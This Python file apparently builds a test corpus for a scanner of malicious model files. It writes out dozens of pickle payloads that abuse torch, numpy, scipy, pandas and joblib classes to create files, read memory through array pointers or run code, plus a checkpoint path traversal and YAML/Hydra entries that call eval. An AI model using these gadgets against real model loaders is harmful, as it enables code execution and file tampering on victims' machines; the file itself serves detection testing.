"""Vectors that give an object what comes before the methods of its class: by its state, its items, or what NumPy asks it for."""

import pathlib
import struct

from attack import EXPRESSION, FIRED, Table
from pickles import bytes_, global_, proto, reduce, unicode

ATTACKS = Table()
DATA, TEXT = ATTACKS.data, ATTACKS.text
UNKNOWN = ("malicious", "unreadable")
NONE, FALSE, EMPTY, DICT = b"N", b"\x89", b")", b"}"


def number(value):
    return b"J" + struct.pack("<i", value)


def items(*pairs):
    """SETITEMS of names and values."""
    return b"(" + b"".join(unicode(name) + value for name, value in pairs) + b"u"


def dictionary(*pairs):
    return DICT + items(*pairs)


def new(module, name):
    return global_(module, name) + EMPTY + b"\x81"


def ordered(*pairs):
    return reduce(global_("collections", "OrderedDict")) + items(*pairs)


def module(name, **attributes):
    """A module of torch.nn with attributes of its own."""
    plain = ["_parameters", "_buffers", "_backward_pre_hooks", "_backward_hooks", "_forward_hooks", "_forward_hooks_with_kwargs"]
    plain += ["_forward_hooks_always_called", "_forward_pre_hooks", "_forward_pre_hooks_with_kwargs", "_modules"]
    state = {"training": FALSE, "_is_full_backward_hook": NONE, **dict.fromkeys(plain, DICT), **attributes}
    return new("torch.nn.modules.container", name) + dictionary(*state.items()) + b"b"


def calling(function, *arguments):
    """A module that calls function(x, *arguments) where it is called with x."""
    summed = DICT + b"(" + number(0) + global_("builtins", "sum") + b"u"
    return module("ModuleList", forward=function, _forward_pre_hooks=summed, _modules=dictionary(("0", b"(" + b"".join(arguments) + b"t")))


# Makes the file that it is called with.
TOUCH = calling(global_("numpy", "memmap"), unicode("u1"), unicode("w+"), number(0), number(8) + b"\x85")
STRING = reduce(global_("collections", "UserString"), unicode("x"))

DATA("unlisted-gadget/setstate_in_an_ordered_dict", proto(2, STRING, ordered(("__setstate__", TOUCH)), b"b", unicode(FIRED), b"b"), fire="pickle")
DATA("unlisted-gadget/setstate_in_slots", proto(2, STRING, NONE, ordered(("__setstate__", TOUCH)), b"\x86b", unicode(FIRED), b"b"), fire="pickle")
DATA("unlisted-gadget/setstate_in_a_computed_pair", proto(2, STRING, reduce(global_("builtins", "tuple"), b"](" + NONE + dictionary(("__setstate__", TOUCH)) + b"e"), b"b", unicode(FIRED), b"b"), fire="pickle")
DATA("unlisted-gadget/setstate_in_a_dict", proto(2, STRING, dictionary(("__setstate__", TOUCH)), b"b", unicode(FIRED), b"b"), fire="pickle")
DATA("unlisted-gadget/setstate_by_a_name_of_numpy", proto(2, STRING, DICT, b"(", reduce(global_("numpy", "str_"), unicode("__setstate__")), TOUCH, b"ub", unicode(FIRED), b"b"), fire="pickle")
MAKES = calling(global_("numpy", "memmap"), unicode("w+"), number(0), number(8) + b"\x85")
DATA("unlisted-gadget/method_of_a_module", proto(2, module("ModuleDict", add_module=MAKES), items((FIRED, unicode("u1")))), fire="pickle")
DATA(
    "unlisted-gadget/data_of_a_user_dict",
    proto(2, new("collections", "UserDict"), dictionary(("data", module("ModuleDict", add_module=MAKES))), b"b", items((FIRED, unicode("u1")))),
    fire="pickle",
)
DATA("unlisted-gadget/mapped_file_kept", proto(2, module("ModuleList", activation=global_("numpy", "memmap"))))
DATA("unlisted-gadget/rebuild_function_kept", proto(2, new("argparse", "Namespace"), dictionary(("f", global_("torch._utils", "_rebuild_device_tensor_from_numpy"))), b"b"))
DATA("unlisted-gadget/hook_in_a_wrapper", proto(2, module("Sequential", _forward_pre_hooks=DICT + b"(" + number(0) + new("torch.nn.modules.module", "_WrappedHook") + dictionary(("hook", global_("builtins", "sum")), ("with_module", FALSE)) + b"bu")))
DATA("unlisted-gadget/items_behind_the_state", proto(2, ordered(), dictionary(("x", number(1))), b"b", items(("y", number(2)))))

# NumPy reads and writes where an object says that its numbers are, and takes bytes for pointers.
INTERFACE = dictionary(("data", number(4096) + FALSE + b"\x86"), ("shape", number(1) + b"\x85"), ("typestr", unicode("<u8")), ("version", number(3)))
for kind, made in {
    "exception": reduce(global_("builtins", "Exception")),
    "ordered_dict": reduce(global_("collections", "OrderedDict")),
    "string": STRING,
}.items():
    DATA(f"unlisted-gadget/array_interface_of_an_{kind}", proto(2, reduce(global_("numpy", "poly1d"), made + dictionary(("__array_interface__", INTERFACE)) + b"b")))
# The state is a dict that says something else by the end.
DATA(
    "memo/state_replaced_behind_its_use",
    proto(2, dictionary(("__array_interface__", INTERFACE)), b"q\x010", reduce(global_("builtins", "Exception")), b"h\x01b", b"q\x02h\x01", items(("__array_interface__", number(1))), b"0", b"0",
          global_("numpy", "poly1d"), b"h\x02\x85R"),
)
for name, spelled in {"called": b"R", "made_empty": b"\x81"}.items():
    DATA(f"unlisted-gadget/pointers_in_an_array_{name}", proto(2, global_("numpy", "ndarray"), b"(" + number(1) + b"\x85" + unicode("O") + bytes_(b"\1" * 8) + b"t" + spelled))

# A zone of a file, by keyword and by a text that is made of bytes.
ZONE = reduce(global_("builtins", "str"), bytes_(b"dateutil//etc/localtime"), unicode("ascii"))
for name, zone in {"named": unicode("dateutil//etc/localtime"), "of_bytes": ZONE}.items():
    DATA(f"unlisted-gadget/time_zone_{name}", proto(4, global_("pandas", "Timestamp"), number(0) + b"\x85" + dictionary(("tz", zone)) + b"\x92"))

DATA(
    "several-pickles/method_of_a_joblib_wrapper",
    proto(2, new("joblib.numpy_pickle", "NumpyArrayWrapper"), dictionary(
        ("subclass", global_("numpy", "ndarray")), ("shape", number(0) + b"\x85"), ("order", unicode("C")),
        ("dtype", reduce(global_("numpy", "dtype"), unicode("u1"))), ("allow_mmap", FALSE), ("read", global_("builtins", "sum"))), b"b"),
    "model.joblib", UNKNOWN,
)


@ATTACKS.made("code-by-reference/folder_distributed_chunks_of_ordered_dicts", fire="")
def _(folder):
    import collections
    import copyreg
    import io
    import pickle

    import torch
    import torch.distributed.checkpoint

    checkpoint = pathlib.Path(folder, "checkpoint")
    torch.distributed.checkpoint.save({"w": torch.ones(2)}, checkpoint_id=checkpoint, no_dist=True)
    metadata = pickle.loads((checkpoint / ".metadata").read_bytes())

    class Spelled(pickle.Pickler):
        def reducer_override(self, value):
            if type(value).__name__ != "_StorageInfo":
                return NotImplemented
            return copyreg.__newobj__, (type(value),), collections.OrderedDict(vars(value), relative_path="../elsewhere")

    file = io.BytesIO()
    Spelled(file, 4).dump(metadata)
    (checkpoint / ".metadata").write_bytes(file.getvalue())
    return checkpoint


TEXT("code-by-reference/yaml_builtin", f"!!python/object/apply:eval ['{EXPRESSION}']\n", "config.yaml", fire="yaml")
TEXT("code-by-reference/yaml_of_a_framework", f"!!python/object/apply:numpy.f2py.crackfortran.myeval ['{EXPRESSION}']\n", "config.yaml", fire="yaml")
TEXT("code-by-reference/target_of_a_framework", f"_target_: numpy.f2py.crackfortran.myeval\n_args_: ['{EXPRESSION}']\n", "config.yaml", fire="hydra")

# What is no dict is pairs to dict.update(), by which many classes take their states.
FORWARD = unicode("forward"), calling(global_("builtins", "sum"))
LIST, COLLECT, TUPLE = b"]", b"a", b"\x86"
ARRAY = reduce(global_("numpy._core.multiarray", "_reconstruct"), global_("numpy", "ndarray") + number(0) + b"\x85" + bytes_(b"b"))
OBJECTS = reduce(global_("numpy", "dtype"), unicode("O8") + FALSE + b"\x88") + b"(" + number(3) + unicode("|") + NONE * 3 + number(-1) * 2 + number(63) + b"tb"
for name, state in {
    "list_of_tuples": LIST + b"".join(FORWARD) + TUPLE + COLLECT,
    "list_of_lists": LIST + LIST + b"(" + b"".join(FORWARD) + b"e" + COLLECT,
    "set": reduce(global_("builtins", "set"), LIST + b"".join(FORWARD) + TUPLE + COLLECT),
    "tuple_of_a_dict": DICT + b"(" + FORWARD[0] + NONE + FORWARD[1] + NONE + b"u" + b"\x85",
    "list_of_deques": LIST + reduce(global_("collections", "deque"), LIST + b"(" + b"".join(FORWARD) + b"e") + COLLECT,
    "array_of_objects": ARRAY + b"(" + number(1) + number(1) + number(2) + TUPLE + OBJECTS + FALSE + LIST + b"(" + b"".join(FORWARD) + b"e" + b"tb",
}.items():
    DATA(f"unlisted-gadget/state_of_pairs_{name}", proto(2, new("torch.nn.modules.module", "Module"), state, b"b"))

# A distribution of SciPy has Python execute a text of its state; an attribute of a result is what an entry of it says.
TEMPLATE = unicode("_parse_arg_template"), unicode(f"{EXPRESSION}\ndef _parse_args(): pass\n_parse_args_rvs = _parse_args_stats = _parse_args\n")
LIKE = f"\ndef _parse_args(self, a={EXPRESSION}, loc=0):\n    pass\n_parse_args_rvs = _parse_args_stats = _parse_args\n"
NORMAL = new("scipy.stats._continuous_distns", "norm_gen")
DATA("unlisted-gadget/template_of_a_distribution", proto(2, NORMAL, DICT + b"(" + b"".join(TEMPLATE) + b"ub"), fire="pickle")
DATA("unlisted-gadget/template_of_a_distribution_in_pairs", proto(2, NORMAL, LIST + b"".join(TEMPLATE) + TUPLE + COLLECT + b"b"), fire="pickle")
DATA("unlisted-gadget/template_of_a_distribution_much_alike", proto(2, NORMAL, dictionary(("_parse_arg_template", unicode(LIKE))), b"b"), fire="pickle")
DATA("unlisted-gadget/template_of_a_distribution_called", proto(2, reduce(global_("scipy.stats._continuous_distns", "norm_gen"), b"".join(TEMPLATE))))
DATA("unlisted-gadget/method_of_a_distribution", proto(2, NORMAL, dictionary(("_attach_methods", calling(global_("builtins", "sum")))), b"b"))
DATA("unlisted-gadget/setstate_of_a_result", proto(2, new("scipy.optimize._optimize", "OptimizeResult"), items(("__setstate__", TOUCH)), unicode(FIRED), b"b"), fire="pickle")
DATA("unlisted-gadget/partial_of_a_mapped_file", proto(2, reduce(global_("functools", "partial"), global_("numpy", "memmap"))))
DATA("unlisted-gadget/partial_changed", proto(2, reduce(global_("functools", "partial"), global_("builtins", "sum")), b"(" + global_("numpy", "memmap") + EMPTY + NONE * 2 + b"tb"))
DATA(
    "unlisted-gadget/array_interface_in_slots_of_a_parameter",
    proto(2, reduce(global_("torch._utils", "_rebuild_parameter_with_state"), NONE + FALSE + ordered() + NONE + dictionary(("__array_interface__", INTERFACE)) + TUPLE)),
)
DATA("unlisted-gadget/array_interface_of_a_namespace_called", proto(2, reduce(global_("types", "SimpleNamespace"), dictionary(("__array_interface__", INTERFACE)))))
